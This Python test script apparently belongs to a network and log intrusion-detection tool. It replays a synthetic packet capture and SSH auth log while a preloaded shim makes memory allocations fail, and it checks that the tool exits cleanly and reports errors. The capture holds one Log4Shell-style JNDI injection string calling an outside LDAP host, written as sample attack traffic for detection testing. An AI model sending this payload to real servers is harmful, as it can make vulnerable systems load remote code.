#!/usr/bin/env python3
"""memory.py MAMORI FAILING_MALLOC - `mamori replay` of a small capture and log while one allocation fails, each time another one, and
while all fail from there on: never a crash of ours, always status 0 (it did not matter), 2 or 3 (it did, and it says so)."""
import concurrent.futures
import os
import struct
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../e2e"))
from cases import case, finish  # noqa: E402

MAMORI, FAILING_MALLOC = sys.argv[1:3]
SPOTS = [*range(1, 400, 9), *range(401, 60000, 1997)]
# libndpi does not check its allocations at all: its plugin stays out; libfyaml checks nearly all of its own
WITHOUT = "plugins: {ndpi: null}\n"


def capture(path):
    def ip(a):
        return bytes(int(x) for x in a.split("."))
    out = struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1)
    for n, payload in enumerate([b"GET /?q=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: x\r\n\r\n", b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"]):
        tcp = struct.pack(">HHIIBBHHH", 40000 + n, 8080, 1000, 1, 0x50, 0x18, 8192, 0, 0) + payload
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0, ip("198.51.100.6"), ip("192.168.1.5"))
        frame = b"\x02" * 6 + b"\x04" * 6 + b"\x08\x00" + head + tcp
        out += struct.pack("<IIII", 1700000000 + n, 0, len(frame), len(frame)) + frame
    with open(path, "wb") as f:
        f.write(out)


def main():
    with tempfile.TemporaryDirectory(prefix="mamori-memory-") as d:
        capture(f"{d}/in.pcap")
        with open(f"{d}/auth.log", "w") as f:
            for n in range(12):
                f.write(f"2023-11-14T22:13:{20 + n}+00:00 pc1 sshd[77]: Failed password for root from 203.0.113.5 port {50000 + n} ssh2\n")
        os.mkdir(f"{d}/site")
        with open(f"{d}/site/50-without.yaml", "w") as f:
            f.write(WITHOUT)
        command = [MAMORI, "replay", "--config", f"{d}/site", "--pcap", f"{d}/in.pcap", "--log", f"syslog:{d}/auth.log", "--home-net", "192.168.0.0/16"]
        plain = subprocess.run(command, capture_output=True, timeout=120)
        case("it_runs_without_faults", plain.returncode == 0 and plain.stdout, plain.stderr.decode())

        def one(at, is_for_good):
            env = {**os.environ, "LD_PRELOAD": FAILING_MALLOC, "MMR_FAIL_AT": str(at), "MMR_FAIL_ON": "1" if is_for_good else "0"}
            try:
                p = subprocess.run(command, capture_output=True, env=env, timeout=120)
            except subprocess.TimeoutExpired:
                return at, "hangs", b""
            return at, p.returncode, p.stderr

        for is_for_good in (False, True):
            spots = SPOTS[::3] if is_for_good else SPOTS
            with concurrent.futures.ThreadPoolExecutor(2) as pool:
                ran = list(pool.map(lambda at: one(at, is_for_good), spots))
            word = "from_then_on" if is_for_good else "once"
            case(f"faults_are_felt_{word}", any(rc in (2, 3) for _, rc, _ in ran), ran[:3])
            bad = [(at, rc, err[-300:]) for at, rc, err in ran if rc not in (0, 2, 3)]
            case(f"it_ends_in_order_when_memory_fails_{word}", not bad, f"{len(bad)} of {len(ran)}: {bad[:4]}")
            mute = [(at, rc) for at, rc, err in ran if rc in (2, 3) and not err.strip()]
            case(f"what_ends_it_is_said_{word}", not mute, f"{len(mute)}: {mute[:10]}")
            died = [at for at, _, err in ran if b"ended by signal" in err]  # of the child that reads; in libfyaml, here and there
            case(f"crashes_of_a_library_are_contained_and_rare_{word}", len(died) <= len(ran) // 20, died)
            print(f"    {len(ran)} places: " + ", ".join(f"{sum(1 for r in ran if r[1] == s)} x status {s}" for s in (0, 2, 3)), flush=True)
    return finish()


sys.exit(main())
